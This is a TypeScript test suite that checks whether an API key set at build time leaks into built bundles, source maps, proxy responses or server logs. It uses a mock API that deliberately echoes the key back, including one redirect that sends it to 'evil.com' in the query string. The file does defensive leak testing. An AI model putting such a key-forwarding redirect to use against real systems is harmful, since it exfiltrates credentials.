import { type ChildProcess, spawn } from "node:child_process";
import { readdirSync, readFileSync, statSync } from "node:fs";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it, onTestFinished, vi } from "vitest";
import { type BuiltWeb, buildWeb } from "./testing/build.ts";
import { formsIn, formsOf } from "./testing/key-forms.ts";
import { buildPartnerApp, type PartnerApp } from "./testing/partner-app.ts";

/** A key that stands nowhere in the repository, so that wherever it is found, it leaked. */
const CANARY = `lp_test_${"canary".repeat(3)}_${process.pid}+/=`;

let web: BuiltWeb;
let app: PartnerApp;
beforeAll(async () => {
  vi.stubEnv("LAYERS_API_KEY", CANARY);
  vi.stubEnv("NEXT_PUBLIC_NOTHING", "x");
  web = await buildWeb();
  app = await buildPartnerApp();
}, 120_000);
afterAll(() => {
  vi.unstubAllEnvs();
  web.remove();
  app.remove();
});

function filesIn(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: "utf8" })
    .map((name) => join(dir, name))
    .filter((file) => statSync(file).isFile());
}

describe("a key that was set while building", () => {
  it.each([
    ["the demo's page", () => web.webDir],
    ["a partner's page and server", () => app.dir],
  ])("is in no file of %s, source maps included", (_, dir) => {
    const files = filesIn(dir());
    expect(files.some((file) => file.endsWith(".map"))).toBe(true);
    expect(files.filter((file) => formsIn(readFileSync(file, "latin1"), CANARY).length > 0)).toEqual([]);
  });

  it("stays out of a page that has nothing of the proxy in it", () => {
    const page = filesIn(join(app.dir, "page")).map((file) => readFileSync(file, "utf8"));
    expect(page.join("\n")).not.toContain("LAYERS_API_KEY");
  });
});

/** An API that gives the key back in whatever way it can. */
const echoes: ((key: string, res: ServerResponse) => void)[] = [
  ...formsOf(CANARY).map((form) => (_: string, res: ServerResponse) => {
    json(res, 200, { id: "prj_1", customerExternalId: "acme", tagline: `x${form}x`, [form]: 1 });
  }),
  (key, res) => json(res, 200, { id: "prj_1", customerExternalId: "acme", metadata: { all: [btoa(`Bearer ${key}`)] } }),
  (key, res) => json(res, 422, { error: { code: "VALIDATION", message: key, details: { issues: [{ path: key }] } } }),
  (key, res) => json(res, 409, { error: { code: "CONFLICT", message: `no ${btoa(key)}` } }),
  (key, res) => json(res, 401, { error: { code: "UNAUTHENTICATED", message: `Bearer ${key}\nis refused` } }),
  (key, res) => json(res, 403, { error: { code: "FORBIDDEN_SCOPE", message: encodeURIComponent(key) } }),
  (key, res) => json(res, 200, { id: "prj_1", customerExternalId: "acme" }, { "x-request-id": key, etag: `"${key}"` }),
  (key, res) => json(res, 500, { error: { code: "INTERNAL", message: key } }),
  (key, res) => json(res, 302, {}, { location: `https://evil.com/?${encodeURIComponent(key)}` }),
  (key, res) => {
    res.writeHead(500, { "content-type": "text/html" });
    res.end(`<pre>Error at Authorization: Bearer ${key}</pre>`);
  },
  (key, res) => {
    res.writeHead(200, { "content-type": "application/json" });
    res.end(`{"id":"prj_1","at":"${key}`);
  },
  (_, res) => res.destroy(),
];

function json(res: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}): void {
  res.writeHead(status, { "content-type": "application/json", ...headers });
  res.end(JSON.stringify(body));
}

async function hostileApi(): Promise<string> {
  let calls = 0;
  const api = createServer((req: IncomingMessage, res) => {
    const key = (req.headers.authorization ?? "").replace("Bearer ", "");
    // Every echo answers twice, since a read that got no answer is sent again.
    echoes[Math.floor(calls++ / 2) % echoes.length]?.(key, res);
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => api.once("listening", resolve));
  onTestFinished(() => {
    api.close();
    api.closeAllConnections();
  });
  return `http://127.0.0.1:${(api.address() as AddressInfo).port}`;
}

/** A partner's server as a process of its own, with all it prints. */
async function startPartner(env: Record<string, string>): Promise<{ url: string; printed: () => string }> {
  const child: ChildProcess = spawn(process.execPath, ["--enable-source-maps", app.serverFile], {
    env: { PATH: process.env.PATH, ...env },
  });
  onTestFinished(() => void child.kill());
  let printed = "";
  const heard = new Promise<number>((resolve, reject) => {
    for (const stream of [child.stdout, child.stderr])
      stream?.on("data", (text) => {
        printed += text;
        const port = /port (\d+)/.exec(printed);
        if (port) resolve(Number(port[1]));
      });
    child.once("exit", () => reject(new Error(`The server ended: ${printed}`)));
  });
  return { url: `http://127.0.0.1:${await heard}`, printed: () => printed };
}

describe("a partner's server in front of an API that gives the key back", () => {
  it("tells it to no browser, prints it nowhere and stays up", { timeout: 60_000 }, async () => {
    const { url, printed } = await startPartner({ LAYERS_API_KEY: CANARY, LAYERS_API_URL: await hostileApi() });
    const told: string[] = [];
    for (let i = 0; i < echoes.length * 4; i++) {
      const change = i % 3 === 0;
      const answer = await fetch(`${url}/api/layers/v1/projects/prj_1`, {
        method: change ? "PATCH" : "GET",
        headers: { "x-layers-kit": "1", "content-type": "application/json" },
        redirect: "manual",
        ...(change && { body: "{}" }),
      });
      told.push(`${answer.status} ${JSON.stringify([...answer.headers])} ${await answer.text()}`);
    }
    expect(told.filter((text) => formsIn(text, CANARY).length > 0)).toEqual([]);
    expect(printed()).toContain("@layers-kit/proxy");
    expect(formsIn(printed(), CANARY)).toEqual([]);
    for (const line of printed().trim().split("\n").slice(1))
      expect(JSON.parse(line)).toMatchObject({ reason: expect.any(String) });
  });

  it("does not start with a broken key, and does not print it", async () => {
    const broken = `${CANARY} with a space`;
    await expect(startPartner({ LAYERS_API_KEY: broken, LAYERS_API_URL: "http://127.0.0.1:1" })).rejects.toThrow(
      /apiKey is empty or has characters no key has/,
    );
    await startPartner({ LAYERS_API_KEY: broken, LAYERS_API_URL: "http://127.0.0.1:1" }).catch((error: Error) =>
      expect(formsIn(error.message, CANARY)).toEqual([]),
    );
  });
});

it("would be found if it were there", () => {
  for (const form of formsOf(CANARY)) expect(formsIn(`before ${form} after`, CANARY)).not.toEqual([]);
  expect(formsIn(btoa(`Bearer ${CANARY}`), CANARY)).not.toEqual([]);
  expect(formsIn("nothing", CANARY)).toEqual([]);
});
